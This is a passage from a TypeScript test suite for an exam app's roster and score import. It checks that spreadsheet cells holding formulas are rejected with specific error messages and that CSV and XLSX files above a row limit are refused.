    const r = await importScores(app, write(shared, 'skd.xlsx'));
    expect(r).toMatchObject({ ok: false, error: { code: 'SCORES_INVALID', details: { problems: [{ line: 3, column: 'twk', reason: 'cell B3 holds a formula: paste values only' }] } } });
    const notes = await xlsx((wb) => scoreSheet(wb, 'SKD', 85).getCell('E2').value = { formula: 'B2+C2+D2', result: 345 } as ExcelJS.CellFormulaValue);
    expect(await importScores(app, write(notes, 'skd2.xlsx'))).toMatchObject({ ok: true, value: { rows: 1, problemCount: 0 } });
    expect(twkOf(app)).toEqual([85 / 5]);
  });

  it('a roster XLSX with a formula in the NIK column is refused with ROSTER_INVALID naming the cell; nothing is imported', async () => {
    const app = await examApp();
    const before = counts(app);
    const bytes = await xlsx((wb) => {
      const ws = wb.addWorksheet('Peserta');
      for (const line of rosterLines(PEOPLE)) ws.addRow(line.split(';'));
      ws.getCell('B4').value = { formula: '"3374011203950003"', result: '3374011203950003' };
    });
    const r = await importRoster(app, write(bytes, 'roster.xlsx'));
    expect(r).toMatchObject({ ok: false, error: { code: 'ROSTER_INVALID', details: { file: 'roster.xlsx', problems: [{ line: 4, column: 'nik', reason: 'cell B4 holds a formula: paste values only' }], count: 1 } } });
    expect(r.error.message).toMatch(/^roster\.xlsx, line 4, column nik: cell B4 holds a formula: paste values only/);
    expect(counts(app)).toEqual(before);
  });

  it('a header cell holding a formula is refused: the header read would be its cached text', async () => {
    const app = await examApp(pkg);
    const bytes = await xlsx((wb) => {
      const ws = scoreSheet(wb, 'SKD', 85);
      ws.getCell('E1').value = { formula: '"tw"&"k"', result: 'catatan' };
    });
    const r = await importScores(app, write(bytes, 'skd.xlsx'));
    expect(r).toMatchObject({ ok: false, error: { code: 'TABLE_INVALID', details: { file: 'skd.xlsx', line: 1, reason: 'formula', cell: 'E1' } } });
    expect(r.error.message).toBe('skd.xlsx, line 1: cell E1 holds a formula: type the header as text, and import the file again.');
  });

  it('a table of more than 1,000,000 rows below its header is refused (CSV); 1,000,000 are read', () => {
    const rows = (n: number) => `a\n${'1\n'.repeat(n)}`;
    expect(parseCsvText(rows(1_000_000), 'big.csv').rows).toHaveLength(1_000_000);
    expect(() => parseCsvText(rows(1_000_001), 'big.csv')).toThrow(
      expect.objectContaining({ code: 'TABLE_INVALID', details: expect.objectContaining({ file: 'big.csv', reason: 'too-many-rows', line: 1_000_002, limit: 1_000_000 }) }),
    );
    expect(() => parseCsvText(rows(1_000_001), 'big.csv')).toThrow('big.csv: more than 1,000,000 rows below the header (line 1,000,002 is one too many): no venue roster or score file is this large. Split the file, and import each part.');
    // The quoted path (papaparse) counts the same, blank lines aside.
    const quoted = `"a"\n${'1\n\n'.repeat(11)}`;
    expect(parseCsvSteps(quoted, ';', 'q.csv', 'utf-8', 11).rows).toHaveLength(11);
    expect(() => parseCsvSteps(quoted, ';', 'q.csv', 'utf-8', 10)).toThrow(expect.objectContaining({ code: 'TABLE_INVALID', details: { file: 'q.csv', reason: 'too-many-rows', line: 22, limit: 10 } }));
  });

  it('an XLSX of many rows is refused once the limit is passed, its empty rows counted, before the rest is read', async () => {
    const bytes = await xlsx((wb) => {
      const ws = wb.addWorksheet('SKD');
      ws.addRow(['nomor_peserta', 'twk']);
      for (let i = 0; i < 3_000; i++) ws.addRow(i % 2 ? [`P${i}`, 1] : []).height = 15;
    });
    await expect(readXlsx(bytes, 'skd.xlsx', 1_000)).rejects.toMatchObject({ code: 'TABLE_INVALID', details: { file: 'skd.xlsx', reason: 'too-many-rows', limit: 1_000, line: 1_002 } });
    expect((await readXlsx(bytes, 'skd.xlsx', 3_000)).rows).toHaveLength(1_500);
  });
});
